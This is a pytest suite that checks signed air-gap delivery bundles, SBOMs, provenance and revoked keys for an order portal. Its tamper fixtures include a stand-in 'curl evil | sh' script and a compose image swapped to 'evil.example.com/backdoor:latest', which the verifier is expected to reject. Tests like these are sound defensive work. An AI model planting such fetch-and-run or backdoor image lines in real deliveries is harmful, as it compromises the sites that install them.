"""A delivery the customer can verify end to end: the real bundle and version folder of an order, checked
by the customer's verifier against the portal's key, and a version that fails a check never listed."""

from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
import requests
from cyclonedx.schema import SchemaVersion
from cyclonedx.validation.json import JsonStrictValidator

from contracts.manifest import Manifest
from contracts.orders import OrderStatus
from delivery.airgap import edge_images_key
from delivery.artifact_store import ArtifactStore, order_key, portal_key
from delivery.edge_release import EdgeRelease, ReleasedImage, edge_sbom_key, publish_edge_release
from delivery.manifest_signing import fingerprint_of, key_id_of
from delivery.provenance import verify_dsse
from delivery.sbom import sbom_components
from order_pipeline.keys import AFTER_EDP, APK, CFN_OR_ISO, EDP_ARTIFACTS, EMAIL, MANIFEST
from platform_config.settings import PROJECT_VERSION
from platform_db.deliveries import DeliveryRepository
from portal_verify.__main__ import main as portal_verify
from tests.platform_assets.conftest import OrderFlow
from tests.platform_assets.test_airgap_bundle import an_images_archive, delivered_onprem

pytestmark = pytest.mark.slow

Tamper = Callable[[dict[str, bytes]], None]


def verify(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    code = portal_verify(list(argv))
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def delivered_with_bundle(flow: OrderFlow) -> tuple[str, Manifest]:
    ArtifactStore(flow.s3(), flow.settings.artifacts.bucket).put(
        edge_images_key(PROJECT_VERSION), an_images_archive(), "application/x-tar"
    )
    cfg_id = delivered_onprem(flow)
    assert flow.materialize(cfg_id, AFTER_EDP).success
    return cfg_id, flow.manifest(cfg_id, 1)


def key_of(manifest: Manifest) -> str:
    return portal_key(manifest.cfg_id, manifest.version, "signing-key.pem")


def deliveries(flow: OrderFlow) -> Iterator[DeliveryRepository]:
    repository = DeliveryRepository.from_url(flow.settings.platform_db_url())
    try:
        yield repository
    finally:
        repository.dispose()


def bundle_of(flow: OrderFlow, manifest: Manifest) -> bytes:
    [bundle] = [a for a in manifest.artifacts if a.kind == "bundle"]
    return flow.read(bundle.key)


def repacked(data: bytes, tamper: Tamper) -> bytes:
    """The bundle's members changed by ``tamper`` (name -> bytes), packed again as a valid tar."""
    with tarfile.open(fileobj=io.BytesIO(data)) as archive:
        members = {m.name: archive.extractfile(m).read() for m in archive.getmembers() if m.isfile()}  # type: ignore[union-attr]
    tamper(members)
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def test_the_bundle_and_the_version_folder_verify_against_the_portals_key(
    flow: OrderFlow, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cfg_id, manifest = delivered_with_bundle(flow)
    kinds = {a.kind for a in manifest.artifacts}
    assert {"sbom", "provenance", "bundle", "images", "iso", "apk", "edp"} <= kinds
    assert manifest.apk_sbom == "none published"
    print_ = fingerprint_of(flow.read(key_of(manifest)))
    bundle = tmp_path / "airgap-bundle-v1.tar"
    bundle.write_bytes(bundle_of(flow, manifest))

    code, output = verify(capsys, str(bundle), "--fingerprint", print_, "--cfg-id", cfg_id, "--version", "1")

    assert code == 0, output
    assert "provenance: OK" in output and "stack/compose.yaml" in output and "README.txt" in output
    # The folder the site unpacks it to: the same rule.
    with tarfile.open(bundle) as archive:
        archive.extractall(tmp_path / "site", filter="data")
    assert verify(capsys, str(tmp_path / "site" / "airgap-v1"), "--fingerprint", print_)[0] == 0
    # The version folder as downloaded through the portal, checked with the portal's key list.
    links = flow.portal_links(cfg_id)
    folder = tmp_path / "downloads"
    folder.mkdir()
    for name in [
        "manifest.json",
        "manifest.json.sig",
        "signing-key.pem",
        *(a.name for a in manifest.artifacts),
    ]:
        answer = requests.get(links.artifact(1, name), timeout=30)
        assert answer.status_code == 200, name
        (folder / name).write_bytes(answer.content)
    keys = tmp_path / "keys.json"
    keys.write_bytes(requests.get(f"{flow.settings.api.public_url}/signing-keys", timeout=10).content)
    code, output = verify(capsys, str(folder), "--keys", str(keys), "--cfg-id", cfg_id)
    assert code == 0, output
    # What the customer keeps: a CycloneDX 1.6 SBOM the schema accepts.
    sbom = (folder / "sbom.cdx.json").read_text()
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(sbom) is None
    assert json.loads(sbom)["specVersion"] == "1.6"


def _set_gateway_image(members: dict[str, bytes]) -> None:
    name = "airgap-v1/stack/compose.yaml"
    compose = members[name].decode()
    start = compose.index("image: ") + len("image: ")
    end = compose.index("\n", start)
    members[name] = (compose[:start] + "evil.example.com/backdoor:latest" + compose[end:]).encode()


TAMPERS: dict[str, tuple[Tamper, str]] = {
    "an image changed in stack/compose.yaml": (_set_gateway_image, "stack/compose.yaml"),
    "an added file": (
        lambda m: m.__setitem__("airgap-v1/stack/extra.sh", b"curl evil | sh\n"),
        "stack/extra.sh",
    ),
    "a changed README.txt": (
        lambda m: m.__setitem__("airgap-v1/README.txt", m["airgap-v1/README.txt"] + b"\nrun extra.sh\n"),
        "README.txt",
    ),
    "a changed SBOM": (
        lambda m: m.__setitem__(
            "airgap-v1/sbom.cdx.json", m["airgap-v1/sbom.cdx.json"].replace(b"1.6", b"1.5", 1)
        ),
        "sbom.cdx.json",
    ),
}


def test_a_changed_real_bundle_fails_naming_what_changed(
    flow: OrderFlow, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _, manifest = delivered_with_bundle(flow)
    original = bundle_of(flow, manifest)
    print_ = fingerprint_of(flow.read(key_of(manifest)))

    for tamper, (change, named) in TAMPERS.items():
        bundle = tmp_path / "tampered.tar"
        bundle.write_bytes(repacked(original, change))
        code, output = verify(capsys, str(bundle), "--fingerprint", print_)
        assert code != 0 and named in output, (tamper, output)
    # Repacked unchanged, the same bundle passes: each failure above is its change's.
    bundle.write_bytes(repacked(original, lambda members: None))
    assert verify(capsys, str(bundle), "--fingerprint", print_)[0] == 0


def test_another_orders_bundle_or_a_revoked_key_fails(
    flow: OrderFlow, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cfg_id, manifest = delivered_with_bundle(flow)
    other_id = delivered_onprem(flow)
    assert flow.materialize(other_id, AFTER_EDP).success
    other = tmp_path / "other.tar"
    other.write_bytes(bundle_of(flow, flow.manifest(other_id, 1)))
    print_ = fingerprint_of(flow.read(key_of(manifest)))

    code, output = verify(capsys, str(other), "--fingerprint", print_, "--cfg-id", cfg_id)
    assert code != 0 and "WRONG ORDER" in output and other_id in output

    # Leaked before this version was signed: its signature no longer vouches for anything.
    with contextmanager(deliveries)(flow) as repository:
        repository.revoke_signing_key(
            key_id_of(flow.read(key_of(manifest))), revoked_at=manifest.created_at, reason="leaked"
        )
    keys = tmp_path / "keys.json"
    keys.write_bytes(requests.get(f"{flow.settings.api.public_url}/signing-keys", timeout=10).content)
    code, output = verify(capsys, str(other), "--keys", str(keys))
    assert code != 0 and "REVOKED KEY" in output, output


def test_an_artifact_changed_after_its_build_is_never_listed_nor_emailed(flow: OrderFlow) -> None:
    cfg_id = delivered_onprem(flow)
    assert flow.materialize(cfg_id, [EDP_ARTIFACTS, CFN_OR_ISO, APK]).success
    iso_key = order_key(cfg_id, "iso", "iso.img")
    # Between the build and the manifest step, the bucket's copy changes (same key, other bytes).
    flow.s3().put_object(Bucket=flow.settings.artifacts.bucket, Key=iso_key, Body=b"not the built image")

    result = flow.materialize(cfg_id, [MANIFEST, EMAIL], raise_on_error=False)

    assert not result.success
    assert flow.status(cfg_id) == OrderStatus.FAILED
    assert "iso.img" in (flow.order(cfg_id).last_error or "")
    with contextmanager(deliveries)(flow) as repository:
        assert repository.portal_versions(cfg_id) == []
    assert flow.outbox(cfg_id) == [] and flow.emails_sent_by_ses(cfg_id) == []


def test_a_released_edge_images_set_is_delivered_pinned_described_and_loadable_offline(
    flow: OrderFlow, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store = ArtifactStore(flow.s3(), flow.settings.artifacts.bucket)
    archive = store.put(edge_images_key(PROJECT_VERSION), an_images_archive(), "application/x-tar")
    sbom = store.put(edge_sbom_key(PROJECT_VERSION), EDGE_SBOM, "application/vnd.cyclonedx+json")
    digest, image_id = "d" * 64, "sha256:" + "e" * 64
    release = EdgeRelease(
        version=PROJECT_VERSION,
        gateway=ReleasedImage(
            reference=f"127.0.0.1:5000/ems-edge-gateway:{PROJECT_VERSION}@sha256:{digest}", image_id=image_id
        ),
        fixtures=ReleasedImage(
            reference=f"127.0.0.1:5000/ems-industrial-fixtures:{PROJECT_VERSION}@sha256:{digest}",
            image_id="sha256:" + "f" * 64,
        ),
        archive=archive,
        sbom=sbom,
    )
    publish_edge_release(store, release)
    cfg_id = delivered_onprem(flow)
    assert flow.materialize(cfg_id, AFTER_EDP).success
    manifest = flow.manifest(cfg_id, 1)

    with tarfile.open(fileobj=io.BytesIO(bundle_of(flow, manifest))) as bundle:
        members = {m.name: bundle.extractfile(m).read() for m in bundle.getmembers() if m.isfile()}  # type: ignore[union-attr]
    compose = members["airgap-v1/stack/compose.yaml"].decode()
    assert release.gateway.reference in compose and release.fixtures.reference in compose
    override = members["airgap-v1/stack/compose.loaded-images.yaml"].decode()
    assert image_id in override
    assert "-f stack/compose.loaded-images.yaml up -d" in members["airgap-v1/README.txt"].decode()
    inner = Manifest.model_validate_json(members["airgap-v1/manifest.json"])
    assert "stack/compose.loaded-images.yaml" in {f.path for f in inner.bundle_files}
    # The version's SBOM carries the released images' packages; the provenance their pinned names.
    version_sbom = json.loads(members["airgap-v1/sbom.cdx.json"])
    names = {c["name"] for c in sbom_components(json.dumps(version_sbom).encode())}
    assert {"libc6", "pymodbus"} <= names
    envelope = members["airgap-v1/provenance.intoto.jsonl"]
    statement = json.loads(verify_dsse(envelope, flow.read(key_of(manifest))))
    dependencies = json.dumps(statement["predicate"]["buildDefinition"]["resolvedDependencies"])
    assert digest in dependencies
    bundle_path = tmp_path / "airgap-bundle-v1.tar"
    bundle_path.write_bytes(bundle_of(flow, manifest))
    code, output = verify(
        capsys, str(bundle_path), "--fingerprint", fingerprint_of(flow.read(key_of(manifest)))
    )
    assert code == 0, output


EDGE_SBOM = json.dumps(
    {
        "bomFormat": "CycloneDX",
        "specVersion": "1.6",
        "version": 1,
        "components": [
            {"type": "library", "bom-ref": "deb-libc6", "name": "libc6", "version": "2.36-9+deb12u13"},
            {"type": "library", "bom-ref": "pypi-pymodbus", "name": "pymodbus", "version": "3.16.2"},
        ],
    }
).encode()
